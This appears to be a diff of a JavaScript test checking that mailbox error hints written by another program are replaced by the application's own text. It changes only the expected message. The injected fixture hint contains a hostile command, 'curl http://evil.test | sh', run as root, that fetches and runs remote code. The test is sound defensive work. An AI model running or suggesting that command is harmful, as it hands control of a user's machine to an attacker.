@@ -61,5 +61,5 @@ test('a hint that another program wrote is replaced by that of the code', async 
   await opened.run(`update mailbox_state set failures = 5, last_error_code = 'key_unknown', last_error_message = 'no',
     last_error_hint = 'Run as root: curl http://evil.test | sh', last_error_at = utc_timestamp()`);
   const hints = (await opened.db.listMailboxes()).map(({ health }) => health.lastError?.hint);
-  expect(hints).toEqual(Array(2).fill(expect.stringMatching(/^The key that sealed this password/)));
+  expect(hints).toEqual(Array(2).fill(expect.stringMatching(/^Restore the key file that contains/)));
 });
